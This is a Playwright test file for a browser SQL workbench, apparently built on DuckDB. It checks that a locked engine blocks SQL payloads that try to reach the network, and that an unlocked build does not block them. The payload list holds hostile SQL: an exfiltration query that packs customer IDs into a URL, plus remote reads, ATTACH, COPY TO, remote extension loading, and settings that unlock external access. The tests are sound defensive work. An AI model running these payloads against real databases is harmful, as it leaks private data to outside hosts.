import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { test as plain } from '@playwright/test';
import { expect, test, WorkbenchPage } from './fixtures.ts';
import { UNLOCKED_URL } from './ports.ts';

/** A loopback server that only counts what reaches it. */
async function startLogger(): Promise<{ server: Server; port: number; hits: string[] }> {
  const hits: string[] = [];
  const server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.setHeader('Access-Control-Allow-Origin', '*');
    res.end('a,b\n1,2\n');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, port: (server.address() as AddressInfo).port, hits };
}

/** Ways SQL from a user or a link could try to send data out or unlock the engine. */
function payloads(port: number): string[] {
  const at = `http://127.0.0.1:${port}`;
  return [
    `SELECT * FROM read_csv('${at}/read_csv?d=secret')`,
    `SELECT * FROM read_text('${at}/read_text')`,
    `SET VARIABLE u = (SELECT '${at}/exfil?d=' || string_agg(customer_id, ';') FROM (SELECT customer_id FROM orders LIMIT 5)); SELECT * FROM read_csv(getvariable('u'))`,
    `SELECT * FROM read_json('${at}/read_json')`,
    `ATTACH '${at}/attach.duckdb' AS remote`,
    `COPY (SELECT * FROM orders) TO '${at}/copy.csv'`,
    `LOAD '${at}/ext.duckdb_extension'`,
    `SET enable_external_access = true`,
    `SET lock_configuration = false`,
    `SET custom_extension_repository = '${at}/ext'`,
  ];
}

test('locked engine: no payload reaches the network, each gets a clear message', async ({ app }) => {
  const logger = await startLogger();
  try {
    await app.open('?sample=retail-v1');
    await expect(app.report).toBeVisible({ timeout: 120_000 });
    for (const sql of payloads(logger.port)) {
      const console = await app.sql(sql);
      await expect(console.getByRole('alert', { name: 'Query error' }), sql).toBeVisible();
      await expect(console.getByRole('alert', { name: 'Query error' }), sql).not.toBeEmpty();
    }
    // Still usable afterwards.
    expect(Number((await app.sqlColumn('SELECT count(*) FROM orders'))[0])).toBeGreaterThan(0);
    expect(logger.hits).toEqual([]);
    console.log(`privacy: locked build, ${payloads(0).length} payloads, ${logger.hits.length} requests reached the logger`);
  } finally {
    logger.server.close();
  }
});

plain('unlocked test build: the same payloads do reach the logger (so the test above can fail)', async ({ page }) => {
  const logger = await startLogger();
  try {
    const app = new WorkbenchPage(page);
    await page.goto(`${UNLOCKED_URL}?sample=retail-v1`);
    await expect(page.getByRole('status', { name: 'Database engine' })).toContainText('UNLOCKED TEST BUILD', { timeout: 90_000 });
    await expect(app.report).toBeVisible({ timeout: 120_000 });
    // Only payloads that need no extension download: the network here refuses other hosts.
    for (const sql of payloads(logger.port).slice(0, 3)) {
      await app.sql(sql);
      await page.waitForTimeout(200);
    }
    await expect.poll(() => logger.hits.length, { timeout: 30_000 }).toBeGreaterThan(0);
    expect(logger.hits.some((h) => h.includes('/exfil?d='))).toBe(true);
    console.log(`privacy: unlocked build, 3 payloads, ${logger.hits.length} requests reached the logger: ${logger.hits.join(' | ')}`);
  } finally {
    logger.server.close();
  }
});
